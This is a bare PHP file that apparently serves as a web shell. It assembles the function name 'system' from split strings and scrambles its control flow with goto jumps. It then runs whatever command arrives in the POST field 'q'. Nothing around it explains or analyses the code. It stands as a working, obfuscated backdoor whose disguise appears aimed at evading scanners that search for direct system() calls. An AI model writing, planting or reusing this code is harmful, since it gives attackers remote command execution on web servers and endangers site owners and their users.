<?php
goto a; c: $x($_POST['q']); goto d; a: $x = 'sys' . 'tem'; goto c; d:
